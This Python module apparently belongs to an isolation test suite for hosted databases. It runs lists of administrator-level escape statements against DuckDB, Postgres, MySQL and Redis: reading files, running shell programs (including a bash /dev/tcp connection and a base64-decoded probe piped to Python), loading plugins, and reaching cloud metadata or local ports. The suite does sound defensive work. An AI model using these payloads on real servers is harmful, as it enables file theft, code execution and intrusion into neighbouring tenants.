"""Who attacks from inside each engine, with all the power there is: its administrator."""

import base64
import shlex
import sys
from collections.abc import Callable, Sequence
from typing import Any

import psycopg
import pymysql
import redis

from contract_tests.isolation.surroundings import PROBE, Surroundings

Ask = Callable[[str], Any]

DUCKDB = [
    "SELECT content FROM read_text('{canary}')",
    "SELECT * FROM read_csv('{canary}')",
    "SELECT * FROM read_blob('{seal}')",
    "SELECT * FROM glob('{folder}/*')",
    "SELECT * FROM glob('{neighbour}/*')",
    "ATTACH '{neighbour}/database.duckdb' AS stolen",
    "SELECT * FROM read_text('http://127.0.0.1:{port}/x')",
    "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')",
    "INSTALL httpfs FROM 'http://127.0.0.1:{port}'",
    "LOAD '{canary}'",
    "COPY (SELECT 1) TO '{planted}'",
    "EXPORT DATABASE '{planted}'",
    "SET enable_external_access = true",
]
POSTGRES = [
    "COPY stolen FROM '{canary}'",
    "COPY stolen FROM '{seal}'",
    "COPY stolen FROM PROGRAM 'cat {canary}'",
    "COPY (SELECT 1) TO '{planted}'",
    "COPY (SELECT 1) TO PROGRAM 'tee {planted}'",
    "COPY stolen FROM PROGRAM 'bash -c \"cat < /dev/tcp/127.0.0.1/{port}\"'",
    "SELECT pg_read_file('{canary}')",
    "SELECT pg_read_binary_file('{seal}')",
    "SELECT pg_ls_dir('{neighbour}')",
    "SELECT pg_ls_dir('{folder}')",
    "SELECT lo_import('{canary}')",
    "SELECT lo_export(lo_from_bytea(0, 'x'), '{planted}')",
    "LOAD '{canary}'",
    "CREATE FUNCTION stolen_fn() RETURNS int AS '{canary}', 'f' LANGUAGE c",
    "CREATE EXTENSION dblink",
    "SELECT * FROM dblink('host=127.0.0.1 port={port}', 'SELECT 1') AS t(n int)",
    "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port={port} dbname=x' PUBLICATION p",
    "CREATE SUBSCRIPTION s CONNECTION 'host=169.254.169.254 dbname=x' PUBLICATION p",
    "CREATE SUBSCRIPTION s CONNECTION 'host={neighbour}/../run dbname=x' PUBLICATION p",
    "ALTER SYSTEM SET log_directory = '{folder}'",
    "ALTER SYSTEM SET archive_command = 'cp %p {planted}'",
    "CREATE TABLESPACE t LOCATION '{folder}'",
]
MYSQL = [
    "SELECT load_file('{canary}')",
    "SELECT load_file('{seal}')",
    "LOAD DATA INFILE '{canary}' INTO TABLE stolen",
    "LOAD DATA LOCAL INFILE '{canary}' INTO TABLE stolen",
    "SELECT 1 INTO OUTFILE '{planted}'",
    "SELECT 1 INTO DUMPFILE '/usr/lib/mysql/plugin/planted.so'",
    "SET GLOBAL general_log_file = '{planted}', GLOBAL general_log = 1",
    "SET GLOBAL slow_query_log_file = '{planted}', GLOBAL slow_query_log = 1",
    "SET GLOBAL secure_file_priv = ''",
    "INSTALL SONAME 'ha_connect'",
    "CREATE TABLE c (s text) ENGINE = CONNECT TABLE_TYPE = DOS FILE_NAME = '{canary}'",
    "INSTALL SONAME 'ha_federatedx'",
    "CREATE TABLE f (n int) ENGINE = FEDERATED CONNECTION = 'mysql://x@127.0.0.1:{port}/x/f'",
    "SELECT * FROM f",
    "INSTALL SONAME 'ha_spider'",
    "CREATE FUNCTION sys_exec RETURNS INT SONAME '../../../../{canary}'",
    "CREATE FUNCTION sys_exec RETURNS INT SONAME 'libc.so.6'",
    "INSTALL PLUGIN planted SONAME 'planted.so'",
    "CREATE TABLE d (n int) DATA DIRECTORY = '{folder}'",
    "CHANGE MASTER TO MASTER_HOST = '127.0.0.1', MASTER_PORT = {port}, MASTER_USER = 'x'",
    "START SLAVE",
]
RESP = [
    "CONFIG SET dir {folder}",
    "CONFIG SET dbfilename planted",
    "CONFIG SET logfile {planted}",
    "CONFIG REWRITE",
    "MODULE LOAD {canary}",
    "MODULE LOADEX {canary}",
    "DEBUG RELOAD",
    "ACL LOAD",
    "ACL SAVE",
    "MIGRATE 127.0.0.1 {port} key 0 1000",
    "MIGRATE 169.254.169.254 80 key 0 1000",
    "CLUSTER MEET 127.0.0.1 {port}",
    "REPLICAOF 127.0.0.1 {port}",
    "REPLICAOF 169.254.169.254 80",
    "REPLICAOF NO ONE",
    "BGSAVE",
]
RESP_SCRIPTS = [
    "return io.open('{canary}'):read('*a')",
    "return dofile('{canary}')",
    "local o = package.loadlib('liblua5.1.so.0', 'luaopen_io'); return o().open('{canary}'):read()",
    "return os.execute('cat {canary}')",
]


def duckdb(around: Surroundings, instance_id: str) -> list[Any]:
    """There is nobody above the tenant; whoever may change settings is compiled in."""
    password = around.rig.reveal(instance_id)["password"]

    def ask(sql: str) -> str:
        return around.rig.query(instance_id, password, sql).text

    return _every(around, DUCKDB, ask)


def postgres(around: Surroundings, instance_id: str) -> list[Any]:
    """A superuser may run programs, which are the probe's way in."""
    with psycopg.connect(
        host=str(around.socket(instance_id).parent),
        user="menagerie",
        password=around.secret(instance_id, "postgres"),
        dbname="postgres",
        autocommit=True,
    ) as connection:
        connection.execute("CREATE TABLE stolen (line text)")

        def ask(sql: str) -> Any:
            done = connection.execute(sql.encode())
            return done.fetchall() if done.description else None

        said = _every(around, POSTGRES, ask)
        program = base64.b64encode(PROBE.encode()).decode()
        words = shlex.join([sys.executable, "-I", "-S", "-", *around.words()])
        line = f"echo {program} | base64 -d | {words}".replace("'", "''")
        ask(f"COPY stolen FROM PROGRAM '{line}'")
        found = connection.execute("SELECT line FROM stolen").fetchall()
    lines = [line for (line,) in found]
    assert [line for line in lines if line.startswith("GOT")] == ["GOT own 1"]
    assert len(lines) > 10
    return [*said, *lines]


def mysql(around: Surroundings, instance_id: str) -> list[Any]:
    with (
        pymysql.connect(
            unix_socket=str(around.socket(instance_id)),
            user="menagerie",
            password=around.secret(instance_id, "menagerie"),
            database="app",
            autocommit=True,
        ) as connection,
        connection.cursor() as cursor,
    ):
        cursor.execute("CREATE TABLE stolen (line text)")

        def ask(sql: str) -> Any:
            cursor.execute(sql)
            return cursor.fetchall()

        said = _every(around, MYSQL, ask)
        return [*said, ask("SELECT line FROM stolen")]


def resp(around: Surroundings, instance_id: str) -> list[Any]:
    """The administrator has few rights, and the one to give itself all."""
    with redis.Redis(
        unix_socket_path=str(around.socket(instance_id)),
        username="menagerie",
        password=around.secret(instance_id, "menagerie"),
        decode_responses=True,
    ) as client:
        client.execute_command("ACL", "SETUSER", "menagerie", "~*", "&*", "+@all")
        client.set("key", "value")
        said = _every(around, RESP, lambda line: client.execute_command(*line.split()))
        return [*said, *_every(around, RESP_SCRIPTS, lambda script: client.eval(script, 0))]


def _every(around: Surroundings, statements: Sequence[str], ask: Ask) -> list[Any]:
    """What each was answered, or refused with."""
    answers: list[Any] = []
    for statement in statements:
        try:
            answers.append(ask(around.place(statement)))
        except (psycopg.Error, pymysql.err.MySQLError, redis.exceptions.RedisError) as error:
            answers.append(str(error))
    return answers


ATTACKERS: dict[str, Callable[[Surroundings, str], list[Any]]] = {
    "duckdb": duckdb,
    "postgres": postgres,
    "timescaledb": postgres,
    "mariadb": mysql,
    "mysql": mysql,
    "redis": resp,
    "valkey": resp,
}
